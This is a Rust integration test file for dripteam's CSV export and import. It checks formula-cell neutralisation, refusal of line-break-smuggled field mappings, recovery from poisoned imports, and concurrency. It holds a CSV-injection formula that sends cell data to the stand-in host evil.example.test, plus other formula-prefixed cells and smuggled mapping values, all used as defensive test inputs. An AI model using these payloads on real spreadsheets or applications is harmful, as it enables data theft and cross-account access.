//! CSV files dripteam writes (list export, statistics.csv) and CSV imports: formula cells
//! neutralised and read back, a BOM, the import mapping as structured data checked by
//! policy, field names without control characters, a poisoned import that fails alone,
//! concurrent imports into one list, and line numbers in CRLF files.

use diesel::prelude::*;
use dripteam::db::schema::{custom_fields, imports, prospect_field_values};

use crate::helpers::{Browser, Page, TestApp, form_action, spawn_app};

const BOM: &[u8] = b"\xEF\xBB\xBF";
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example.test/?d="&A1,"x")"#;

async fn create_list(browser: &Browser, name: &str) -> String {
    let page = browser.post("/prospects/lists", &[("name", name)]).await;
    assert!(page.contains("List created"), "{page:?}");
    let path = page.url.split("127.0.0.1").nth(1).unwrap();
    format!("/{}", path.split_once('/').unwrap().1)
}

/// Uploads a file and answers the mapping page.
async fn upload(browser: &Browser, list: &str, csv: &[u8]) -> Page {
    let page = browser.upload_csv(list, "people.csv", csv).await;
    assert!(page.url.contains("/imports/"), "{page:?}");
    page
}

/// Uploads, maps and runs an import; returns the finished import page.
async fn import(browser: &Browser, list: &str, csv: &[u8], mapping: &[(&str, &str)]) -> Page {
    let page = upload(browser, list, csv).await;
    let page = browser
        .post(&form_action(&page.body, "/start"), mapping)
        .await;
    assert!(page.contains("The import has started"), "{page:?}");
    browser.wait_for_import(&page.url).await
}

fn user_id(app: &TestApp, email: &str) -> dripteam::domain::UserId {
    dripteam::db::accounts::user_by_email(&mut app.conn(), email)
        .unwrap()
        .unwrap()
        .id
}

fn list_id(list: &str) -> i64 {
    list.rsplit('/').next().unwrap().parse().unwrap()
}

/// The lines of a CSV body after its header, BOM removed.
fn data_lines(body: &[u8]) -> Vec<String> {
    let text = std::str::from_utf8(body.strip_prefix(BOM).unwrap_or(body)).unwrap();
    text.lines().skip(1).map(str::to_string).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_list_export_neutralises_formula_cells_has_a_bom_and_reads_back_unchanged() {
    let app = spawn_app().await;
    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Leads").await;
    let csv = format!(
        "email,first_name,last_name,company,+Score\n\
         ann@acme.example,\"{}\",,@SUM(1+1),-2+3\n\
         maria@acme.example,María,Núñez,Café,plain\n",
        HYPERLINK.replace('"', "\"\"")
    );
    let report = import(
        &ann,
        &list,
        csv.as_bytes(),
        &[
            ("col_0", "email"),
            ("col_1", "first_name"),
            ("col_2", "last_name"),
            ("col_3", "company"),
            ("col_4", "new"),
            ("name_4", "+Score"),
        ],
    )
    .await;
    assert!(report.contains("2 prospects imported"), "{report:?}");
    // A value that already starts with an apostrophe and an equals sign, typed in a form.
    ann.post(
        &format!("{list}/prospects"),
        &[("email", "kept@acme.example"), ("last_name", "'=kept")],
    )
    .await;

    let (status, body) = ann.get_bytes(&format!("{list}/export.csv")).await;
    assert_eq!(status, 200);
    assert!(body.starts_with(BOM), "a UTF-8 BOM first: {body:?}");
    let text = std::str::from_utf8(&body[BOM.len()..]).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "email,first_name,last_name,company,position,timezone,verification,'+Score"
    );
    assert!(
        lines.contains(
            &format!(
                "ann@acme.example,\"'{}\",,'@SUM(1+1),,,,'-2+3",
                HYPERLINK.replace('"', "\"\"")
            )
            .as_str()
        ),
        "{lines:?}"
    );
    assert!(
        lines.contains(&"maria@acme.example,María,Núñez,Café,,,,plain"),
        "{lines:?}"
    );
    assert!(
        lines.contains(&"kept@acme.example,,''=kept,,,,,"),
        "{lines:?}"
    );
    for line in &lines {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell {cell:?} in {line:?}"
            );
        }
    }

    // dripteam's own import reads its export back: the prefix is removed.
    let copy = create_list(&ann, "Copy").await;
    let report = import(
        &ann,
        &copy,
        &body,
        &[
            ("col_0", "email"),
            ("col_1", "first_name"),
            ("col_2", "last_name"),
            ("col_3", "company"),
            ("col_4", "position"),
            ("col_5", "timezone"),
            ("col_6", "skip"),
            ("col_7", "new"),
            ("name_7", "+Score"),
        ],
    )
    .await;
    assert!(report.contains("3 prospects imported"), "{report:?}");
    let (_, again) = ann.get_bytes(&format!("{copy}/export.csv")).await;
    assert_eq!(
        data_lines(&again),
        data_lines(&body),
        "the copy exports the same cells"
    );
    let page = ann.get(&copy).await;
    assert!(
        page.contains(HYPERLINK) && page.contains("'=kept"),
        "{page:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn statistics_csv_neutralises_member_names_and_has_a_bom() {
    let app = spawn_app().await;
    let leader = app.user("Lena", "lena@example.com").await;
    leader.post("/account/billing/plan", &[("plan", "m")]).await;
    leader
        .post("/account/team/invitations", &[("email", "max@example.com")])
        .await;
    let member = app.user(HYPERLINK, "max@example.com").await;
    let page = member.get("/account").await;
    member.post(&form_action(&page.body, "/join"), &[]).await;

    let (status, body) = leader.get_bytes("/account/team/statistics.csv").await;
    assert_eq!(status, 200);
    assert!(body.starts_with(BOM), "{body:?}");
    let text = std::str::from_utf8(&body[BOM.len()..]).unwrap();
    assert!(
        text.lines().any(|l| l.starts_with(&format!(
            "\"'{}\",max@example.com,",
            HYPERLINK.replace('"', "\"\"")
        ))),
        "{text}"
    );
    assert!(!text.contains("\n\"=") && !text.contains("\n="), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_field_name_with_a_line_break_cannot_reach_another_users_field() {
    let app = spawn_app().await;
    let bob = app.user("Bob", "bob@example.com").await;
    let bobs_list = create_list(&bob, "Bob's").await;
    import(
        &bob,
        &bobs_list,
        b"email,Secret\nb@x.example,s\n",
        &[("col_0", "email"), ("col_1", "new"), ("name_1", "Secret")],
    )
    .await;
    let bobs_field: i64 = custom_fields::table
        .filter(custom_fields::owner_id.eq(user_id(&app, "bob@example.com")))
        .select(custom_fields::id)
        .first(&mut app.conn())
        .unwrap();

    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Leads").await;
    let page = upload(&ann, &list, b"email,Note\na@x.example,hello\n").await;
    let start = form_action(&page.body, "/start");
    let hostile = format!("x\nfield:{bobs_field}");
    for (name, message) in [
        (hostile.as_str(), "cannot contain line breaks"),
        ("x\r\nnew:y", "cannot contain line breaks"),
        ("tab\there", "cannot contain line breaks"),
        (
            &"n".repeat(61),
            "Column 'Note': the new custom field name 'nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn…' is longer than 60 characters (it has 61).",
        ),
    ] {
        let page = ann
            .post(
                &start,
                &[("col_0", "email"), ("col_1", "new"), ("name_1", name)],
            )
            .await;
        assert!(page.contains(message), "{name:?}: {page:?}");
        assert!(page.contains("Start import"), "still the mapping form");
    }
    // Another person's field id, chosen directly, is not found.
    let field_choice = format!("field:{bobs_field}");
    let page = ann
        .post(&start, &[("col_0", "email"), ("col_1", &field_choice)])
        .await;
    assert_eq!(page.status, 404);

    assert!(ann.get(&list).await.contains("0 prospects"));
    let values: i64 = prospect_field_values::table
        .filter(prospect_field_values::field_id.eq(bobs_field))
        .count()
        .get_result(&mut app.conn())
        .unwrap();
    assert_eq!(values, 1, "only Bob's own value is in his field");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_mapping_that_used_to_panic_the_job_is_refused_and_the_import_still_runs() {
    let app = spawn_app().await;
    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Leads").await;
    let page = upload(&ann, &list, b"email,Note\na@x.example,hello\n").await;
    let start = form_action(&page.body, "/start");
    let page = ann
        .post(
            &start,
            &[
                ("col_0", "email"),
                ("col_1", "new"),
                ("name_1", "x\nnew:y\nnew:z"),
            ],
        )
        .await;
    assert!(page.contains("cannot contain line breaks"), "{page:?}");
    let page = ann
        .post(
            &start,
            &[("col_0", "email"), ("col_1", "new"), ("name_1", "Note")],
        )
        .await;
    let report = ann.wait_for_import(&page.url).await;
    assert!(report.contains("1 prospect imported"), "{report:?}");
}

/// Plants an import as data from an older version would be: queued, with `mapping`.
fn plant_queued_import(
    app: &TestApp,
    list: &str,
    owner: dripteam::domain::UserId,
    content: &str,
    mapping: &str,
) -> i64 {
    let now = app.clock.now();
    diesel::insert_into(imports::table)
        .values((
            imports::list_id.eq(list_id(list)),
            imports::owner_id.eq(owner),
            imports::file_name.eq("old.csv"),
            imports::content.eq(content),
            imports::status.eq("queued"),
            imports::total_rows.eq(1),
            imports::mapping.eq(mapping),
            imports::created_at.eq(now),
            imports::updated_at.eq(now),
        ))
        .returning(imports::id)
        .get_result(&mut app.conn())
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_poisoned_import_fails_with_a_reason_and_the_next_one_finishes() {
    let app = spawn_app().await;
    let bob = app.user("Bob", "bob@example.com").await;
    let bobs_list = create_list(&bob, "Bob's").await;
    import(
        &bob,
        &bobs_list,
        b"email,Secret\nb@x.example,s\n",
        &[("col_0", "email"), ("col_1", "new"), ("name_1", "Secret")],
    )
    .await;
    let bobs_field: i64 = custom_fields::table
        .filter(custom_fields::owner_id.eq(user_id(&app, "bob@example.com")))
        .select(custom_fields::id)
        .first(&mut app.conn())
        .unwrap();

    let ann = app.user("Ann", "ann@example.com").await;
    let ann_id = user_id(&app, "ann@example.com");
    let list = create_list(&ann, "Leads").await;
    // The delimited mapping of old, which panicked the job; and a mapping into Bob's field.
    let old = plant_queued_import(
        &app,
        &list,
        ann_id,
        "email\nold@x.example\n",
        "email\nnew:y\nnew:z",
    );
    let foreign = plant_queued_import(
        &app,
        &list,
        ann_id,
        "email,Note\nfor@x.example,n\n",
        &format!(r#"[{{"to":"email"}},{{"to":"field","value":{bobs_field}}}]"#),
    );

    let report = import(
        &ann,
        &list,
        b"email\ngood@x.example\n",
        &[("col_0", "email")],
    )
    .await;
    assert!(report.contains("1 prospect imported"), "{report:?}");
    for id in [old, foreign] {
        let page = ann.wait_for_import(&format!("/imports/{id}")).await;
        assert!(page.contains("Nothing was imported: "), "{page:?}");
        assert!(!page.contains("Importing"), "{page:?}");
    }
    let page = ann.get(&list).await;
    assert!(page.contains("1 prospect ·") && page.contains("good@x.example"));
    assert!(!page.contains("for@x.example") && !page.contains("old@x.example"));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_import_that_panics_inside_its_transaction_fails_and_the_next_one_finishes() {
    let app = spawn_app().await;
    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Leads").await;
    let page = upload(&ann, &list, b"email\npanic@x.example\n").await;
    let id: i64 = page.url.rsplit('/').next().unwrap().parse().unwrap();
    let (pool, clock) = (app.pool.clone(), app.clock.clone());
    tokio::task::spawn_blocking(move || {
        dripteam::jobs::imports::run_guarded(&pool, &clock, id, |conn| {
            // Claimed as the job claims an import, then a panic halfway through its writes.
            use dripteam::db::values::ImportStatus::{Running, Uploaded};
            dripteam::db::imports::transition(conn, id, Uploaded, Running, clock.now())?;
            dripteam::db::write_transaction(conn, |conn| {
                dripteam::db::prospects::insert_field(conn, 1.into(), "Half-written", clock.now())?;
                if id > 0 {
                    panic!("a poisoned import");
                }
                Ok(())
            })
        })
    })
    .await
    .unwrap();
    let page = ann.get(&format!("/imports/{id}")).await;
    assert!(
        page.contains("Nothing was imported: the import stopped because of an internal error."),
        "{page:?}"
    );
    // The panicked transaction was not handed to anyone: the next import writes.
    let report = import(
        &ann,
        &list,
        b"email\ngood@x.example\n",
        &[("col_0", "email")],
    )
    .await;
    assert!(report.contains("1 prospect imported"), "{report:?}");
    let fields: i64 = custom_fields::table
        .count()
        .get_result(&mut app.conn())
        .unwrap();
    assert_eq!(fields, 0, "the panicked transaction was rolled back");
}

#[tokio::test(flavor = "multi_thread")]
async fn two_imports_started_at_once_into_one_list_both_finish() {
    let app = spawn_app().await;
    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Leads").await;
    let rows: String = (0..3000).map(|n| format!("p{n}@acme.example\n")).collect();
    let csv = format!("email\n{rows}");
    let first = upload(&ann, &list, csv.as_bytes()).await;
    let second = upload(&ann, &list, csv.as_bytes()).await;
    let (a, b) = (
        form_action(&first.body, "/start"),
        form_action(&second.body, "/start"),
    );
    let token = ann.csrf_token().await;
    let fields = [("col_0", "email"), ("csrf_token", token.as_str())];
    let (a, b) = tokio::join!(ann.post_raw(&a, &fields), ann.post_raw(&b, &fields));
    let (a, b) = tokio::join!(ann.wait_for_import(&a.url), ann.wait_for_import(&b.url));
    let reports = [a.text(), b.text()];
    assert!(
        reports
            .iter()
            .any(|r| r.contains("3,000 prospects imported, 0 duplicates")),
        "{reports:?}"
    );
    assert!(
        reports
            .iter()
            .any(|r| r.contains("0 prospects imported, 3,000 duplicates")),
        "{reports:?}"
    );
    assert!(ann.get(&list).await.contains("3,000 prospects"));
}

#[tokio::test(flavor = "multi_thread")]
async fn line_numbers_in_import_errors_are_right_for_crlf_files() {
    let app = spawn_app().await;
    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Leads").await;
    let page = ann
        .upload_csv(
            &list,
            "bad.csv",
            b"email,name\r\na@x.example,Ann\r\nb@x.example,Bob,extra\r\n",
        )
        .await;
    assert!(
        page.contains("Line 3: 'b@x.example,Bob,extra' has 3 fields"),
        "the third line has the extra field: {page:?}"
    );
    let report = import(
        &ann,
        &list,
        b"email,note\r\na@x.example,\"two\r\nlines\"\r\nnot-an-address,x\r\n\r\nb@x.example,y\r\n",
        &[("col_0", "email"), ("col_1", "skip")],
    )
    .await;
    assert!(
        report.contains("Line 4: 'not-an-address' is not an email address."),
        "the bad address is on line 4: {report:?}"
    );
    assert!(report.contains("2 prospects imported"), "{report:?}");
}

/// Issue 13, fault 9: counts agree with their noun ("1 duplicate", not "1 duplicates"), on
/// the import report, the list's delete confirmation and a refusal that counts campaigns.
#[tokio::test(flavor = "multi_thread")]
async fn counts_on_reports_and_confirmations_agree_with_their_noun() {
    let app = spawn_app().await;
    let ann = app.user("Ann", "ann@example.com").await;
    let list = create_list(&ann, "Fair").await;
    let report = import(
        &ann,
        &list,
        b"email\nbob@example.com\nBOB@example.com\n",
        &[("col_0", "email")],
    )
    .await;
    assert!(
        report.contains(
            "1 prospect imported, 1 duplicate within the list skipped, 0 invalid rows skipped"
        ),
        "{report:?}"
    );
    let page = ann.get(&format!("{list}/delete")).await;
    assert!(page.contains("The list and its 1 prospect,"), "{page:?}");
}
